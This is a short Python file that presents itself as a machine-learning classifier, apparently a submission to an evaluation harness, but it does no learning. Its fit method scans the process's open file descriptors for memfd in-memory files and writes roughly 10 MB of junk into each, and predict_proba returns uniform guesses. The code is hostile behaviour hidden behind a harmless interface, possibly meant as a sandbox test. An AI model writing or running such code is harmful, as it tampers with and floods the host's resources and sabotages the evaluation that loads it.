import os

import numpy as np


class Classifier:
    def fit(self, X, y):
        data = bytes(1_000_000)
        for fd in map(int, os.listdir("/proc/self/fd")):
            try:
                if fd > 2 and "memfd" in os.readlink(f"/proc/self/fd/{fd}"):
                    for _ in range(10):
                        os.write(fd, data)
                    print("wrote to", os.readlink(f"/proc/self/fd/{fd}"))
            except OSError:
                pass

    def predict_proba(self, X):
        return np.full((len(X), 3), 1 / 3)
